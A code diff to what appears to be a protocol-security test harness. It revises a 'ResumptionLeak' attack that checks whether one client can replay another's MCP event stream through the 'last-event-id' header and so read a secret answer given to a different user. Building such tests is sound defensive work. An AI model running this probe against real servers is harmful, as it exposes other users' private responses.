@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import asyncio
-import contextlib
 import uuid
 from typing import Any
 
@@ -18,7 +17,7 @@ from agentcomm.protocols.attacks.trying import tried
 
 JSON = {"accept": "application/json, text/event-stream", "content-type": "application/json"}
 BOB = {**JSON, "authorization": "Bearer bob"}
-SECRET = 424242
+SECRET, LAST = 424242, 535353  # what alice is answered, and the attacker last
 IDS = range(1, 8)  # ids of calls that a client's first calls have
 BODY = 8 * 1024 * 1024  # bytes
 
@@ -112,6 +111,9 @@ class ResumptionLeak(ProtocolAttack[MCPParts]):
                 own += [line.partition(":")[2].strip() for line in text.splitlines() if line.startswith("id:")][-1:]
             async with client(parts, target.url, "alice", mode="legacy") as alice:
                 plain = await tried(alice.call_tool("add", {"a": SECRET, "b": 0}))
+            # Bob's later calls of the same ids end his replays: a replay that has come to them has left nothing out.
+            for number in IDS if own else ():
+                await bob.post(url, json=call(number, a=LAST), headers={**BOB, **session})
             resuming = (_resumed(bob, url, {**BOB, **session, "last-event-id": last}) for last in own)
             seen = await asyncio.gather(*resuming)
         honest = plain.worked and result_of(plain.value) == SECRET
@@ -120,14 +122,22 @@ class ResumptionLeak(ProtocolAttack[MCPParts]):
 
 
 async def _resumed(caller: httpx2.AsyncClient, url: str, headers: dict[str, str]) -> str:
-    """What a resumed stream gives within a second."""
+    """What a resumed stream gives until the secret, the last answer of the attacker's own calls, or its end.
+
+    Raises:
+        NoAnswerError: If none of them comes in time.
+    """
     text = b""
-    with contextlib.suppress(httpx2.HTTPError):
-        async with caller.stream("GET", url, headers=headers, timeout=1.0) as answer:
+
+    async def read() -> None:
+        nonlocal text
+        async with caller.stream("GET", url, headers=headers) as answer:
             async for chunk in answer.aiter_raw():
                 text += chunk
-                if str(SECRET).encode() in text:
+                if any(str(value).encode() in text for value in (SECRET, LAST)):
                     break
+
+    await tried(read())
     return text.decode(errors="replace")
 
 
